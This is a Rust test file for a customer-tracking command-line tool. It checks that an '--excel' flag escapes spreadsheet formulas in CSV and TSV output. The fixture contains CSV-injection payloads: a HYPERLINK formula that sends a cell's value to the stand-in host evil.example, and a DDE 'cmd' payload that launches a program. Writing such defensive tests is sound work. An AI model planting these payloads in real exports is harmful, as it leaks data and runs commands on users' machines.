//! `--excel`: a cell Excel would run as a formula is made text, numbers stay numbers, the
//! output has a byte-order mark and CRLF; without it, CSV is the data exactly; with another
//! format, a usage error.

use crate::util::Workspace;

/// Cells Excel would run as formulas (a link that sends data away, DDE, arithmetic), a
/// phone number with its `+`, a lone `-`, and numbers with signs, which stay numbers.
fn excel_book() -> Workspace {
    Workspace::new().file(
        "customers.csv",
        "id,name,owner,phone,grade,last_contact\n\
         C1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",\
         @SUM(1+1)*cmd|' /C calc'!A0,+86 138 0000 0000,C,2026-09-01\n\
         C2,-12.50,+3,=1,C,2026-09-01\n\
         C3,=2,-2+3,-,C,2026-09-01\n",
    )
}

const EXCEL_COLUMNS: [&str; 2] = ["--columns", "id,name,owner,phone,overdue_days"];

/// Without `--excel`, CSV is the data exactly: nothing is altered unless asked.
#[test]
fn csv_without_excel_is_the_data_exactly() {
    excel_book()
        .run([&["due", "--format", "csv"][..], &EXCEL_COLUMNS].concat())
        .stderr("")
        .code(0)
        .stdout(
            "id,name,owner,phone,overdue_days\n\
             C1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",\
             @SUM(1+1)*cmd|' /C calc'!A0,+86 138 0000 0000,20\n\
             C2,-12.50,+3,=1,20\n\
             C3,=2,-2+3,-,20\n",
        );
}

/// With `--excel`, a cell starting with `=`, `+`, `-` or `@` gets a leading `'` (and is
/// quoted) unless it is a plain number; the file starts with UTF-8's byte-order mark and
/// its lines end in CRLF. `--excel` alone is csv.
#[test]
fn excel_csv_makes_formulas_text_and_keeps_numbers() {
    let expected = "\u{feff}id,name,owner,phone,overdue_days\r\n\
                    C1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",\
                    \"'@SUM(1+1)*cmd|' /C calc'!A0\",\"'+86 138 0000 0000\",20\r\n\
                    C2,-12.50,+3,\"'=1\",20\r\n\
                    C3,\"'=2\",\"'-2+3\",\"'-\",20\r\n";
    let ws = excel_book();
    for format in [&["--format", "csv"][..], &[][..]] {
        ws.run([&["due", "--excel"][..], format, &EXCEL_COLUMNS].concat())
            .stderr("")
            .code(0)
            .stdout(expected);
    }
    // Negative numbers clientele computes stay numbers too: on 1 October each is due on
    // 2 November (two months after 1 September is a Sunday), 32 days ahead. A header
    // printed above no rows opens with the mark; no rows and no header print nothing.
    ws.run([
        "due",
        "--excel",
        "--within",
        "2m",
        "--columns",
        "id,overdue_days",
        "--today",
        "2026-10-01",
    ])
    .stdout("\u{feff}id,overdue_days\r\nC1,-32\r\nC2,-32\r\nC3,-32\r\n")
    .code(0);
    ws.run(["due", "--excel", "--today", "2026-09-02"])
        .stdout("")
        .stderr("")
        .code(0);
    ws.run([
        "due",
        "--excel",
        "--today",
        "2026-09-02",
        "--header",
        "always",
        "--columns",
        "id",
    ])
    .stdout("\u{feff}id\r\n")
    .code(0);
}

/// TSV for Excel: the same cells made text, the mark, CRLF.
#[test]
fn excel_tsv_makes_formulas_text() {
    excel_book()
        .run([&["due", "--excel", "--format", "tsv"][..], &EXCEL_COLUMNS].concat())
        .stderr("")
        .code(0)
        .stdout(
            "\u{feff}id\tname\towner\tphone\toverdue_days\r\n\
             C1\t'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\t\
             '@SUM(1+1)*cmd|' /C calc'!A0\t'+86 138 0000 0000\t20\r\n\
             C2\t-12.50\t+3\t'=1\t20\r\n\
             C3\t'=2\t'-2+3\t'-\t20\r\n",
        );
}

/// `--excel` with a format Excel does not open as a sheet is a usage error, said in the
/// run's language; nothing is printed.
#[test]
fn excel_with_another_format_is_a_usage_error() {
    let ws = excel_book();
    for format in ["table", "json", "jsonl", "markdown", "ics"] {
        let before = ws.snapshot();
        ws.run(["due", "--excel", "--format", format])
            .stdout("")
            .stderr(&format!(
                "clientele: error: --excel is for --format csv or tsv, not {format}\n"
            ))
            .code(2);
        ws.run(["--lang", "zh", "due", "--excel", "--format", format])
            .stdout("")
            .stderr(&format!(
                "clientele: 错误: --excel 只用于 --format csv 或 tsv，不能用于 {format}\n"
            ))
            .code(2);
        ws.assert_unchanged(&before);
    }
}
